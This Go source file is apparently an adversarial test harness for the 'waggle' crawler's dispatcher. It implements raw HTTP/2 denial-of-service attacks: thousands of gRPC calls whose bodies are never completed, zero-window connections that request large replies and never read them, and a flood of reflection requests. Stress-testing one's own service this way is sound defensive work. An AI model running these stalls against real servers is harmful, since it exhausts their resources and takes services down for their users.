package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"sync"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc/reflection/grpc_reflection_v1"
	"google.golang.org/protobuf/proto"

	pb "github.com/waggle-crawl/waggle/proto/waggle/v1"
)

// raw is an HTTP/2 connection that heeds only the windows of its peer.
type raw struct {
	conn   net.Conn
	framer *http2.Framer

	mu     sync.Mutex // guards what follows, and writes
	more   *sync.Cond
	window int64            // of the connection
	stream int64            // initial window of streams
	extra  map[uint32]int64 // of streams
	ended  bool
}

// open makes a connection that gives streams a window of so many bytes.
func (a *attacker) open(window uint32) *raw {
	conn, err := a.dial(context.Background())
	if err != nil {
		return nil
	}
	r := &raw{conn: conn, framer: http2.NewFramer(conn, conn), window: 65535, stream: 65535, extra: make(map[uint32]int64)}
	r.more = sync.NewCond(&r.mu)
	_, err = io.WriteString(conn, http2.ClientPreface)
	if err != nil || r.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window}) != nil {
		return nil
	}
	go r.read()
	return r
}

func (r *raw) read() {
	for {
		frame, err := r.framer.ReadFrame()
		r.mu.Lock()
		switch f := frame.(type) {
		case *http2.SettingsFrame:
			if v, ok := f.Value(http2.SettingInitialWindowSize); ok {
				r.stream = int64(v)
			}
			if !f.IsAck() {
				_ = r.framer.WriteSettingsAck() // its failure is read next
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				_ = r.framer.WritePing(true, f.Data) // its failure is read next
			}
		case *http2.WindowUpdateFrame:
			if f.StreamID == 0 {
				r.window += int64(f.Increment)
			} else {
				r.extra[f.StreamID] += int64(f.Increment)
			}
		}
		r.ended = r.ended || err != nil
		r.more.Broadcast()
		r.mu.Unlock()
		if err != nil {
			return
		}
	}
}

// call begins a call, and sends as much of its body as the windows let through; then, as they open, the rest.
func (r *raw) call(id uint32, method string, body []byte, end bool) {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, field := range []hpack.HeaderField{
		{Name: ":method", Value: "POST"},
		{Name: ":scheme", Value: "http"},
		{Name: ":path", Value: method},
		{Name: ":authority", Value: "test"},
		{Name: "content-type", Value: "application/grpc"},
		{Name: "te", Value: "trailers"},
	} {
		_ = encoder.WriteField(field) // to memory
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndHeaders: true}) != nil {
		return
	}
	for sent := int64(0); len(body) > 0; {
		n := min(int64(len(body)), r.window, r.stream+r.extra[id]-sent, 16<<10)
		if n <= 0 {
			if r.ended || sent >= 60<<10 && !end {
				return // the rest would come if the dispatcher read on
			}
			r.more.Wait()
			continue
		}
		if r.framer.WriteData(id, end && n == int64(len(body)), body[:n]) != nil {
			return
		}
		r.window, sent, body = r.window-n, sent+n, body[n:]
	}
}

// message is a gRPC message of so many bytes, of which body is the begin.
func message(size int, body []byte) []byte {
	out := make([]byte, 5, 5+len(body))
	binary.BigEndian.PutUint32(out[1:], uint32(size)) //nolint:gosec // small
	return append(out, body...)
}

// partial begins 100,000 submits on 200 connections, and ends none.
func (a *attacker) partial() {
	body := message(4<<20-1, make([]byte, 2<<20))
	for range 200 / a.scale {
		go forever(func() {
			r := a.open(65535)
			if r == nil {
				return
			}
			for i := range uint32(500) {
				r.call(2*i+1, pb.TaskService_SubmitTasks_FullMethodName, body, false)
			}
			r.wait()
		})
	}
}

// unread asks for 100,000 answers of 100 KB on 200 connections, and reads none.
func (a *attacker) unread() {
	for c := range 200 / a.scale {
		go forever(func() {
			r := a.open(0)
			if r == nil {
				return
			}
			for i := range uint32(500) {
				beat := &pb.RenewLeaseRequest{Collector: &pb.CollectorInfo{Id: fmt.Sprintf("attack-%d", c), Session: "s"}}
				for k := range 1000 {
					beat.Leases = append(beat.Leases, &pb.LeaseBeat{TaskId: fmt.Sprintf("task-%d-%080d", k, k), LeaseToken: "none"})
				}
				body, err := proto.Marshal(beat)
				if err != nil {
					panic(err) // the message is wrong
				}
				r.call(2*i+1, pb.DispatchService_RenewLease_FullMethodName, message(len(body), body), true)
			}
			r.wait()
		})
	}
}

// reflection asks on 5,000 streams for the descriptions of all messages, again and again, and reads none.
func (a *attacker) reflection() {
	request, err := proto.Marshal(&grpc_reflection_v1.ServerReflectionRequest{
		MessageRequest: &grpc_reflection_v1.ServerReflectionRequest_FileContainingSymbol{FileContainingSymbol: "waggle.v1.AdminService"},
	})
	if err != nil {
		panic(err) // the message is wrong
	}
	body := bytes.Repeat(message(len(request), request), 10)
	for range max(10/a.scale, 1) {
		go forever(func() {
			r := a.open(0)
			if r == nil {
				return
			}
			for i := range uint32(500) {
				r.call(2*i+1, grpc_reflection_v1.ServerReflection_ServerReflectionInfo_FullMethodName, body, false)
			}
			r.wait()
		})
	}
}

// wait waits until the dispatcher closes the connection.
func (r *raw) wait() {
	r.mu.Lock()
	defer r.mu.Unlock()
	for !r.ended {
		r.more.Wait()
	}
	_ = r.conn.Close()
}
